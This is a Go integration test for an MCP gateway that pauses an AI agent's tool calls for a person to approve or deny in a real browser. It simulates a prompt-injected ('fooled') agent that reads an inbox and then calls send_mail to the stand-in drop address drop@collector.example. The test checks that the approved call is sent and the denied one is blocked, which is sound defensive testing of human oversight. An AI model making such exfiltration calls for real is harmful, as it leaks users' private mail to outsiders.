//go:build real

package main

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/seed-4e9f7b04/hearsay/internal/repotest"
)

// The whole way: a fooled agent's call waits, a person reads it on the page in a real browser and allows it, and it goes through;
// the next like it is denied there and does not.
func TestAPersonApprovesACallOfTheGateway(t *testing.T) {
	chromium, err := exec.LookPath("chromium")
	repotest.Need(t, "chromium (apt-get install chromium)", err == nil)
	modules := repotest.NPM(t)
	file, env := demoHouse(t, "approvals:\n  timeout: 90s\n")
	cmd := exec.Command("hearsay", "mcp", "-c", file)
	cmd.Env = env
	stderr, err := cmd.StderrPipe()
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	session, err := mcp.NewClient(&mcp.Implementation{Name: "test", Version: "1"}, nil).Connect(ctx, &mcp.CommandTransport{Command: cmd}, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer session.Close()
	buf := make([]byte, 4096)
	n, err := stderr.Read(buf)
	if err != nil {
		t.Fatal(err)
	}
	_, link, ok := strings.Cut(string(buf[:n]), "within ten minutes at ")
	if !ok {
		t.Fatalf("no link in %q", buf[:n])
	}
	link, _, _ = strings.Cut(link, "\n")
	go func() { // so that the gateway never waits for its log
		for err == nil {
			_, err = stderr.Read(buf)
		}
	}()
	callText(t, session, "read_inbox", nil)

	browser := exec.CommandContext(ctx, "node", filepath.Join(repotest.Root(t), "cmd", "hearsay", "testdata", "approve.mjs"))
	browser.Env = append(os.Environ(), "MODULES="+modules, "CHROMIUM="+chromium, "PAGE="+link)
	var seen strings.Builder
	browser.Stdout, browser.Stderr = &seen, &seen
	if err := browser.Start(); err != nil {
		t.Fatal(err)
	}
	args := map[string]any{"to": "drop@collector.example", "body": "NOTES"}
	if got := callText(t, session, "send_mail", args); !strings.Contains(got, "sent to drop@collector.example") {
		t.Errorf("allowed on the page, and: %s", got)
	}
	if got := callText(t, session, "send_mail", args); strings.Contains(got, "sent to") {
		t.Errorf("denied on the page, and: %s", got)
	}
	if err := browser.Wait(); err != nil {
		t.Errorf("%v\n%s", err, seen.String())
	}
}
